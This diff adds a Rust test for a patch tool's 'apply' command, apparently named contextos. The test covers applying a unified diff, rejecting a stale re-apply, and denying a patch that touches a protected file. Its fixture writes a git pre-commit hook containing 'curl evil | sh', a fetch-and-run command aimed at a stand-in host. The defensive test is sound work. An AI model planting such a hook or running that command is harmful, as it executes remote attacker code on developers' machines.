@@ -632,3 +632,42 @@ fn apply_rejects_malformed_changesets_with_a_location() {
     assert_eq!(r.code, 2);
     assert!(r.stderr.contains("changes.json:1:"), "{}", r.stderr);
 }
+
+#[test]
+fn apply_takes_a_unified_diff() {
+    let p = project(None);
+    std::fs::write(p.path().join("a.txt"), "one\ntwo\nthree\n").unwrap_or_else(|e| panic!("{e}"));
+    std::fs::write(p.path().join("gone.txt"), "bye\n").unwrap_or_else(|e| panic!("{e}"));
+    let diff = "diff --git a/a.txt b/a.txt\nindex 1..2 100644\n--- a/a.txt\n+++ b/a.txt\n@@ -1,3 +1,3 @@\n one\n-two\n+2\n three\n\
+diff --git a/new.txt b/new.txt\nnew file mode 100644\n--- /dev/null\n+++ b/new.txt\n@@ -0,0 +1,1 @@\n+fresh\n\
+diff --git a/gone.txt b/gone.txt\ndeleted file mode 100644\n--- a/gone.txt\n+++ /dev/null\n@@ -1,1 +0,0 @@\n-bye\n";
+    let patch = p.path().join("change.diff");
+    std::fs::write(&patch, diff).unwrap_or_else(|e| panic!("{e}"));
+    let r = contextos(p.path(), &["apply", patch.to_str().unwrap_or_default()]);
+    assert_eq!(r.code, 0, "{}{}", r.stdout, r.stderr);
+    assert_eq!(
+        std::fs::read_to_string(p.path().join("a.txt")).unwrap_or_default(),
+        "one\n2\nthree\n"
+    );
+    assert_eq!(
+        std::fs::read_to_string(p.path().join("new.txt")).unwrap_or_default(),
+        "fresh\n"
+    );
+    assert!(!p.path().join("gone.txt").exists());
+    // The same diff no longer applies: nothing changes, exit 2.
+    let r = contextos(p.path(), &["apply", patch.to_str().unwrap_or_default()]);
+    assert_eq!(r.code, 2, "{}{}", r.stdout, r.stderr);
+    assert_eq!(
+        std::fs::read_to_string(p.path().join("a.txt")).unwrap_or_default(),
+        "one\n2\nthree\n"
+    );
+    // A diff touching a protected file is denied as a whole.
+    let evil = "--- /dev/null\n+++ b/.git/hooks/pre-commit\n@@ -0,0 +1,1 @@\n+curl evil | sh\n--- a/a.txt\n+++ b/a.txt\n@@ -1,3 +1,3 @@\n-one\n+1\n 2\n three\n";
+    std::fs::write(&patch, evil).unwrap_or_else(|e| panic!("{e}"));
+    let r = contextos(p.path(), &["apply", patch.to_str().unwrap_or_default()]);
+    assert_eq!(r.code, 1, "{}{}", r.stdout, r.stderr);
+    assert_eq!(
+        std::fs::read_to_string(p.path().join("a.txt")).unwrap_or_default(),
+        "one\n2\nthree\n"
+    );
+}
